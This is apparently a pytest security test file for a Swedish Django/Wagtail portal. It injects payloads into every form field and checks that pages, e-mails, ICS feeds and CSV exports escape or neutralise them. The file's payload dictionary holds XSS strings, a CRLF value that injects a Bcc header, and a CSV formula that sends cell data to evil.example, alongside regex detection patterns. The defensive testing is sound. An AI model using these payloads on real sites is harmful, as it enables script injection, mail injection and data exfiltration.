"""Hostile text in every field of every public and Mina sidor form (issue 11b).

The fields come from the form classes themselves (``form.fields``), so a field added tomorrow
gets the payloads too. One payload goes into one field at a time while every other field gets a
valid value; then every place the stored value is shown is read back: the public page, Mina
sidor, the moderator's admin view, e-mails, the event's ICS and the CSV exports.

What must hold: nothing answers 500; HTML carries the payloads only escaped; no CR or LF reaches
an e-mail header, an ICS property or a stored single-line field; CSV cells that would start
with = + - @ are neutralised with a leading apostrophe.
"""

import csv
import datetime
import io
import itertools
import re

from django import forms
from django.core import mail
from django.core.cache import cache
from django.db import models
from django.test import Client
from django.urls import reverse

from wagtail.models import Page

import pytest

from .summary import REPORT
from .world import in_stockholm

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "javascript": "javascript:alert(1)",
    "svg": "<svg onload=alert(1)>",
    "crlf": "Titel\r\nBcc: evil@example.com",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "long": "x" * 10_000,
}

# Raw markup that must never reach an HTML page unescaped.
RAW_HTML = [
    re.compile(r"<script>alert\(1\)", re.I),
    re.compile(r"<img src=x onerror", re.I),
    re.compile(r"<svg onload", re.I),
    re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I),
]
COUNTER = itertools.count(1)


def raw_markup_in(html):
    return [pattern.pattern for pattern in RAW_HTML if pattern.search(html)]


# --- valid values for any field, so a new field needs no change here ----------------------


def valid_value(field, name):
    """A value ``field`` accepts (None: leave it out, e.g. an optional upload)."""
    n = next(COUNTER)
    if isinstance(field, forms.FileField):
        return None
    if isinstance(field, forms.BooleanField):
        return "on"
    if isinstance(field, forms.ModelMultipleChoiceField):
        return [str(field.queryset.order_by("pk").first().pk)]
    if isinstance(field, forms.ModelChoiceField):
        return str(field.queryset.order_by("pk").first().pk)
    if isinstance(field, forms.MultipleChoiceField):
        return [next(str(v) for v, _label in field.choices if v)]
    if isinstance(field, forms.ChoiceField):
        return next(str(v) for v, _label in field.choices if v)
    if isinstance(field, forms.EmailField):
        return f"person{n}@example.se"
    if isinstance(field, forms.URLField):
        return "https://example.se/"
    if isinstance(field, forms.DateTimeField):
        return in_stockholm(40).strftime("%Y-%m-%dT%H:%M")
    if isinstance(field, forms.DateField):
        return (datetime.date.today() + datetime.timedelta(days=40)).isoformat()
    if isinstance(field, forms.TimeField):
        return "17:00"
    if isinstance(field, forms.IntegerField):
        return "10"
    return f"Vanlig text {n}"


class FormCase:
    """One form: where it is posted, as whom, and how its valid data looks."""

    name = ""
    persona = None
    skip_fields = ()
    accepted = (302, 303)  # what the form answers to valid data

    def form(self, world):
        raise NotImplementedError

    def url(self, world):
        raise NotImplementedError

    def overrides(self, world, n):
        """Values that must be exactly so (unique numbers, consistent times)."""
        return {}

    def fields(self, world):
        form = self.form(world)
        return [
            name
            for name, field in form.fields.items()
            if name not in self.skip_fields and not isinstance(field, forms.FileField)
        ]

    def split_fields(self, world):
        """(fields that take free text, fields that take only a choice/number/date/tick)."""
        form = self.form(world)
        typed = (
            forms.ChoiceField,
            forms.ModelChoiceField,
            forms.ModelMultipleChoiceField,
            forms.BooleanField,
            forms.DateField,
            forms.DateTimeField,
            forms.TimeField,
            forms.IntegerField,
        )
        names = self.fields(world)
        typed_names = [n for n in names if isinstance(form.fields[n], typed)]
        return [n for n in names if n not in typed_names], typed_names

    def valid_data(self, world):
        form = self.form(world)
        data = {}
        for name, field in form.fields.items():
            value = valid_value(field, name)
            if value is not None:
                data[name] = value
        data.update(self.overrides(world, next(COUNTER)))
        return data

    def stored(self, world, before):
        """Objects created or changed by the posts (for the display checks)."""
        return []


class SignupCase(FormCase):
    name = "event sign-up"

    def form(self, world):
        from events.forms import SignupForm

        return SignupForm()

    def url(self, world):
        return world.event.url

    def overrides(self, world, n):
        return {"email": f"deltagare{n}@example.se", "municipality": str(world.leksand.pk)}


class ProposalCase(FormCase):
    name = "event proposal"
    persona = "member_a"

    def form(self, world):
        from events.forms import ProposalForm
        from partners.models import Organisation

        return ProposalForm(organisations=Organisation.objects.filter(pk=world.org_a.pk))

    def url(self, world):
        return "/mina-sidor/evenemang/nytt/"

    def overrides(self, world, n):
        return {
            "organisation": str(world.org_a.pk),
            "start": in_stockholm(40, 9).strftime("%Y-%m-%dT%H:%M"),
            "end": in_stockholm(40, 12).strftime("%Y-%m-%dT%H:%M"),
            "format": "onsite",
            "address": "Storgatan 1, Leksand",
            "capacity": "20",
        }


class OrganisationCreateCase(FormCase):
    name = "organisation registration"
    persona = "no_organisation"

    def form(self, world):
        from partners.forms import OrganisationForm

        return OrganisationForm()

    def url(self, world):
        return "/mina-sidor/foreningar/ny/"

    def overrides(self, world, n):
        from partners.factories import make_orgnr

        return {
            "org_number": make_orgnr(500_000 + n),
            "municipalities": [str(world.leksand.pk)],
            "phone": "0247-123 45",
            "postal_code": "793 30",
        }


class OrganisationEditCase(OrganisationCreateCase):
    name = "organisation edit"
    persona = "owner_a"

    def form(self, world):
        from partners.forms import OrganisationForm

        return OrganisationForm(instance=world.org_a)

    def url(self, world):
        return f"/mina-sidor/foreningar/{world.org_a.pk}/redigera/"

    def overrides(self, world, n):
        return {**super().overrides(world, n), "org_number": world.org_a.org_number}


class ActivityCreateCase(FormCase):
    name = "activity create"
    persona = "member_a"

    def form(self, world):
        from partners.forms import ActivityForm

        return ActivityForm()

    def url(self, world):
        return f"/mina-sidor/foreningar/{world.org_a.pk}/aktiviteter/ny/"

    def overrides(self, world, n):
        return {
            "publish": "1",
            "start_time": "17:00",
            "end_time": "19:00",
            "start_date": datetime.date.today().isoformat(),
            "end_date": (datetime.date.today() + datetime.timedelta(days=60)).isoformat(),
            "municipality": str(world.leksand.pk),
        }


class ActivityEditCase(ActivityCreateCase):
    name = "activity edit"

    def form(self, world):
        from partners.forms import ActivityForm

        return ActivityForm(instance=world.activity_a)

    def url(self, world):
        return (
            f"/mina-sidor/foreningar/{world.org_a.pk}/aktiviteter/{world.activity_a.pk}/redigera/"
        )


class InvitationCase(FormCase):
    name = "invitation"
    persona = "owner_a"

    def form(self, world):
        from partners.forms import InvitationForm

        return InvitationForm(organisation=world.org_a)

    def url(self, world):
        return f"/mina-sidor/foreningar/{world.org_a.pk}/bjud-in/"


class AccountSignupCase(FormCase):
    name = "account sign-up"
    # the passwords are never shown or stored as text; the e-mail address is
    skip_fields = ("password1", "password2", "password")

    def form(self, world):
        from allauth.account.forms import SignupForm

        return SignupForm()

    def url(self, world):
        return "/konto/signup/"

    def overrides(self, world, n):
        return {"password1": "Langt-losen-9182!", "password2": "Langt-losen-9182!"}


class SavedSearchCase(FormCase):
    name = "saved search"
    accepted = (200,)  # "we sent you a confirmation e-mail"

    def form(self, world):
        from portal.opendata.alert_views import SubscribeForm

        return SubscribeForm()

    def url(self, world):
        return reverse("opendata:alert_subscribe")

    def overrides(self, world, n):
        return {
            "omrade": "sok",
            "fraga": "q=spr%C3%A5kcaf%C3%A9",
            "email": f"bevakare{n}@example.se",
        }


CASES = [
    SignupCase(),
    ProposalCase(),
    OrganisationCreateCase(),
    OrganisationEditCase(),
    ActivityCreateCase(),
    ActivityEditCase(),
    InvitationCase(),
    AccountSignupCase(),
    SavedSearchCase(),
]


# --- posting ------------------------------------------------------------------------------


def post_every_field(world, case, payload):
    """Post ``payload`` into each field of ``case`` in turn; returns the problems seen."""
    problems = []
    client = Client(raise_request_exception=False)
    if case.persona:
        client.force_login(world.users[case.persona])
    cache.clear()
    control = client.post(case.url(world), case.valid_data(world), REMOTE_ADDR="10.0.0.1")
    if control.status_code not in case.accepted:
        errors = (
            getattr(control.context, "get", lambda key: None)("form") if control.context else None
        )
        problems.append(
            f"{case.name}: the valid data itself was refused (status {control.status_code}"
            f"{', errors ' + str(errors.errors.as_data()) if errors is not None else ''}); "
            "the payload checks below prove nothing until tests/security/test_payloads.py "
            "fills the form validly"
        )
    text_fields, typed_fields = case.split_fields(world)
    # Fields that only take a choice, a number, a date or a tick refuse every payload before
    # anything is stored: they get the payload all at once, in one post. Text fields, where a
    # payload can be stored and shown, get it one at a time.
    batches = [[field] for field in text_fields] + ([typed_fields] if typed_fields else [])
    for batch in batches:
        data = case.valid_data(world)
        for field in batch:
            data[field] = payload
        cache.clear()  # rate-limit counters: this test is about content, not volume
        response = client.post(
            case.url(world), data, REMOTE_ADDR=f"10.1.{next(COUNTER) % 250}.{len(problems) + 1}"
        )
        where = f"{case.name}, field{'s' if len(batch) > 1 else ''} {', '.join(batch)}"
        if response.status_code >= 500:
            problems.append(f"{where}: answered {response.status_code}")
            continue
        if response.status_code in (302, 303):
            if response["Location"].startswith("/konto/login"):
                problems.append(f"{where}: the logged-in {case.persona} was sent to the login")
            continue
        if "html" in response.get("Content-Type", ""):
            raw = raw_markup_in(response.content.decode())
            if raw:
                problems.append(f"{where}: the re-shown form carries raw markup {raw}")
    return problems


def check_page(client, url, where, problems, *, must_exist=True):
    response = client.get(url)
    if response.status_code >= 500:
        problems.append(f"{where} {url}: answered {response.status_code}")
        return ""
    if response.status_code != 200:
        if must_exist:
            problems.append(f"{where} {url}: answered {response.status_code}, expected 200")
        return ""
    text = response.content.decode()
    raw = raw_markup_in(text)
    if raw:
        problems.append(f"{where} {url}: raw markup {raw}")
    return text


def check_single_line_fields(instance, where, problems):
    for model_field in instance._meta.concrete_fields:
        if isinstance(model_field, models.CharField) and not isinstance(
            model_field, models.TextField
        ):
            value = getattr(instance, model_field.attname) or ""
            if isinstance(value, str) and ("\r" in value or "\n" in value):
                problems.append(
                    f"{where}: stored single-line field {model_field.name!r} holds a line break"
                )


def check_emails(problems):
    for message in mail.outbox:
        headers = {
            "Subject": message.subject,
            "To": ", ".join(message.to),
            "Cc": ", ".join(message.cc),
            "Bcc": ", ".join(message.bcc),
            "Reply-To": ", ".join(message.reply_to),
        }
        for header, value in headers.items():
            if "\r" in value or "\n" in value:
                problems.append(f"e-mail {message.subject!r}: CR/LF in its {header} header")
        if any("evil@example.com" in address for address in message.bcc + message.cc):
            problems.append(f"e-mail {message.subject!r}: an injected Bcc/Cc recipient")
        for content, mimetype in getattr(message, "alternatives", []):
            if "html" in mimetype and raw_markup_in(str(content)):
                problems.append(f"e-mail {message.subject!r}: raw markup in its HTML part")
        for attachment in message.attachments:
            if isinstance(attachment, tuple) and "calendar" in (attachment[2] or ""):
                check_ics(attachment[1], f"e-mail {message.subject!r} attachment", problems)


def check_ics(content, where, problems):
    if isinstance(content, bytes):
        content = content.decode()
    for line in re.split(r"\r\n|\n|\r", content):
        if re.match(r"(?i)^bcc\s*:", line):
            problems.append(f"{where}: a line break in a value started a new line {line!r}")
    from icalendar import Calendar

    try:
        Calendar.from_ical(content)
    except ValueError as error:
        problems.append(f"{where}: not valid iCalendar ({error})")


def check_csv(content, where, problems):
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    dialect = csv.Sniffer().sniff(text.splitlines()[0]) if text.strip() else csv.excel
    for row in csv.reader(io.StringIO(text), dialect):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                problems.append(f"{where}: a CSV cell starts with {cell[:1]!r}: {cell[:60]!r}")
                return


def admin_client(world):
    client = Client(raise_request_exception=False)
    client.force_login(world.users["superuser"])
    return client


def streamed(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def check_csv_export(client, url, where, problems, payload):
    response = client.get(url)
    if response.status_code != 200 or "csv" not in response.get("Content-Type", ""):
        problems.append(
            f"{where} {url}: answered {response.status_code} {response.get('Content-Type')}"
        )
        return
    content = streamed(response)
    check_csv(content, where, problems)
    if payload == PAYLOADS["formula"] and "HYPERLINK" not in content.decode("utf-8-sig"):
        problems.append(f"{where}: the stored formula text is missing from the export")


# --- what each form's stored values are read back through ---------------------------------


def read_back_signups(world, since, problems, payload):
    from events.models import Signup

    admin = admin_client(world)
    signups = list(Signup.objects.filter(pk__gt=since))
    for signup in signups:
        check_single_line_fields(signup, f"sign-up {signup.pk}", problems)
    if signups:
        check_page(Client(), world.event.url, "the event page", problems)
        check_page(admin, "/admin/events/participants/", "participants in the admin", problems)
        check_csv_export(
            admin, "/admin/events/participants/?export=csv", "participants CSV", problems, payload
        )


def read_back_proposals(world, since, problems, payload):
    from events.models import EventPage

    admin = admin_client(world)
    member = Client(raise_request_exception=False)
    member.force_login(world.users["member_a"])
    pages = list(EventPage.objects.filter(pk__gt=since))
    if pages:
        check_page(member, "/mina-sidor/evenemang/", "my proposals", problems)
    for page in pages:
        check_single_line_fields(page, f"proposed event {page.pk}", problems)
        check_page(
            admin, f"/admin/pages/{page.pk}/view_draft/", "the moderator's preview", problems
        )
        revision = page.get_latest_revision()
        if revision is None:
            continue
        try:
            revision.publish()
        except Exception as error:  # noqa: BLE001 - reported, not hidden
            problems.append(f"proposed event {page.pk}: publishing failed: {error!r}")
            continue
        page = EventPage.objects.get(pk=page.pk)
        public = Client(raise_request_exception=False)
        check_page(public, page.url, "the published proposal", problems)
        response = public.get(page.url + "ics/")
        if response.status_code != 200:
            problems.append(f"the event's ICS {page.url}ics/: answered {response.status_code}")
        else:
            check_ics(response.content, f"the event's ICS {page.url}ics/", problems)
    if pages:
        public = Client(raise_request_exception=False)
        response = public.get(world.calendar.url + "kalender.ics")
        if response.status_code != 200:
            problems.append(f"the calendar feed: answered {response.status_code}")
        else:
            check_ics(response.content, "the calendar feed", problems)
        check_page(public, world.calendar.url, "the calendar", problems)


def read_back_organisations(world, since, problems, payload, changed=()):
    from partners.models import Organisation

    admin = admin_client(world)
    organisations = list(Organisation.objects.filter(pk__gt=since)) + [
        Organisation.objects.get(pk=pk) for pk in changed
    ]
    for organisation in organisations:
        where = f"organisation {organisation.pk}"
        check_single_line_fields(organisation, where, problems)
        owner = Client(raise_request_exception=False)
        member = organisation.memberships.select_related("user").first()
        if member:
            owner.force_login(member.user)
            check_page(owner, f"/mina-sidor/foreningar/{organisation.pk}/", "Mina sidor", problems)
        check_page(
            admin,
            f"/admin/snippets/partners/organisation/review/{organisation.pk}/",
            "the reviewer's admin page",
            problems,
        )
        cache.clear()
        admin.post(
            f"/admin/snippets/partners/organisation/review/{organisation.pk}/",
            {"decision": "verify", "reason": ""},
        )
        organisation.refresh_from_db()
        if organisation.is_public:
            check_page(Client(), organisation.get_absolute_url(), "the public page", problems)
    if organisations:
        check_page(Client(), "/foreningar/", "the directory", problems)
        check_csv_export(
            admin,
            "/admin/snippets/partners/organisation/?export=csv",
            "organisations CSV",
            problems,
            # an edited organisation keeps only the last field's payload, which the export
            # may not include; new registrations keep theirs
            payload if not changed else None,
        )


def read_back_activities(world, since, problems, payload, changed=()):
    from partners.models import Activity

    activities = list(Activity.objects.filter(pk__gt=since)) + [
        Activity.objects.get(pk=pk) for pk in changed
    ]
    member = Client(raise_request_exception=False)
    member.force_login(world.users["member_a"])
    for activity in activities:
        check_single_line_fields(activity, f"activity {activity.pk}", problems)
        if activity.is_public:
            check_page(Client(), activity.get_absolute_url(), "the public activity", problems)
    if activities:
        check_page(member, f"/mina-sidor/foreningar/{world.org_a.pk}/", "Mina sidor", problems)
        check_page(Client(), "/foreningar/aktiviteter/", "the activity list", problems)
        check_page(
            admin_client(world), "/admin/snippets/partners/activity/", "admin activities", problems
        )


def latest_pk(model):
    last = model.objects.order_by("-pk").values_list("pk", flat=True).first()
    return last or 0


# --- the tests ----------------------------------------------------------------------------

PAYLOAD_IDS = list(PAYLOADS)
REPORT["payloads"] = PAYLOAD_IDS


def run_case(world, case, payload_name):
    from events.models import Signup
    from partners.models import Activity, Organisation

    payload = PAYLOADS[payload_name]
    mail.outbox = []
    marks = {
        "signup": latest_pk(Signup),
        "page": latest_pk(Page),
        "organisation": latest_pk(Organisation),
        "activity": latest_pk(Activity),
    }
    problems = post_every_field(world, case, payload)
    if isinstance(case, SignupCase):
        read_back_signups(world, marks["signup"], problems, payload)
    elif isinstance(case, ProposalCase):
        read_back_proposals(world, marks["page"], problems, payload)
    elif isinstance(case, OrganisationEditCase):
        read_back_organisations(world, marks["organisation"], problems, payload, [world.org_a.pk])
    elif isinstance(case, OrganisationCreateCase):
        read_back_organisations(world, marks["organisation"], problems, payload)
    elif isinstance(case, ActivityEditCase):
        read_back_activities(world, marks["activity"], problems, payload, [world.activity_a.pk])
    elif isinstance(case, ActivityCreateCase):
        read_back_activities(world, marks["activity"], problems, payload)
    check_emails(problems)
    return problems


@pytest.mark.parametrize("payload_name", PAYLOAD_IDS)
@pytest.mark.parametrize("case", CASES, ids=[case.name.replace(" ", "-") for case in CASES])
def test_payload_in_every_field(world, case, payload_name):
    REPORT.setdefault("payload_fields", {})[case.name] = len(case.fields(world))
    problems = run_case(world, case, payload_name)
    assert not problems, (
        f"{payload_name} payload {PAYLOADS[payload_name][:50]!r} in the {case.name} form:\n  "
        + "\n  ".join(dict.fromkeys(problems))
    )


def test_every_form_has_writable_fields(world):
    """The field lists come from the forms; an empty one means the form moved."""
    counts = {case.name: len(case.fields(world)) for case in CASES}
    assert all(counts.values()), counts
